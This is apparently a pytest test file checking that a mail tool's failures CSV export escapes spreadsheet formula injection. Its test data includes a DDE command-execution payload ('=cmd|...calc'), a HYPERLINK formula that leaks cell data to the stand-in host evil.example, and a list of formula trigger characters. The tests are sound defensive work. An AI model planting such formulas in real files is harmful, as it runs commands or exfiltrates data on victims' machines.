"""The CSV files dispatch writes: no cell a spreadsheet would run as a formula (CSV injection).

`dispatch status --failures-csv` writes what strangers wrote: addresses from the
list and replies from a relay. A cell such as ``=cmd|'/Ccalc'!A0@example.com`` is a
valid address, and a spreadsheet that opens the file runs it. Every cell that
starts with = + - @ TAB CR (OWASP; and NUL, ASVS 1.2.10) is written with a leading
quote, which a spreadsheet reads as "text" and hides. The send is real, to an
SMTP server that refuses those recipients; the CSV is read back with the csv module.
"""

from __future__ import annotations

import csv
from pathlib import Path

from dispatch_mail.delivery.status import Failure, JournalStatus, write_failures_csv
from tests.helpers.send import invoke, send_args
from tests.helpers.smtp_server import reply_always

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
# valid addresses (RFC 5322 atext) that a spreadsheet would take for formulas
HOSTILE = {
    "=cmd|'/Ccalc'!A0@example.com": "'=cmd|'/Ccalc'!A0@example.com",
    "+1+1@example.com": "'+1+1@example.com",
    "-2+3@example.com": "'-2+3@example.com",
}
PLAIN = {"bad@example.com": "bad@example.com", "'quoted@example.com": "'quoted@example.com"}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_failures_csv_neutralizes_formulas_from_a_real_send(project, server, tmp_path):
    refused = {**HOSTILE, **PLAIN}
    rows = [(address, "Reader") for address in refused] + [("ok@example.com", "Ok")]
    server.handler.fail("RCPT", reply_always(f"550 {HYPERLINK}", set(refused)))
    result = invoke(*send_args(project, server, project.csv(rows)))
    assert result.exit_code == 1, result.output  # some recipients failed
    assert server.handler.per_recipient() == {"ok@example.com": 1}

    out = tmp_path / "failed.csv"
    status = invoke(
        "status",
        str(project.issue_dir),
        "--journal",
        str(project.journal),
        "--failures-csv",
        str(out),
    )
    assert status.exit_code == 0, status.output
    written = read_csv(out)
    assert {row["email"] for row in written} == set(refused.values())
    for row in written:
        assert not row["email"].startswith(TRIGGERS), row
        assert not row["reply"].startswith(TRIGGERS), row
        assert HYPERLINK in row["reply"] and row["code"] == "550"


def test_every_trigger_character_of_a_cell_gets_the_quote(tmp_path):
    cells = [f"{trigger}SUM(A1:A9)" for trigger in TRIGGERS]
    failures = tuple(Failure(f"r{i}@example.com", 550, cell) for i, cell in enumerate(cells))
    failures += (Failure("-x@example.com", None, "rcpt: 550 no such user"),)
    path = tmp_path / "failed.csv"
    write_failures_csv(path, [JournalStatus("send.journal", {"failed": 8}, 0, failures)])
    written = read_csv(path)
    assert [row["reply"] for row in written[:-1]] == [f"'{cell}" for cell in cells]
    assert written[-1] == {
        "email": "'-x@example.com",
        "code": "",
        "reply": "rcpt: 550 no such user",
    }
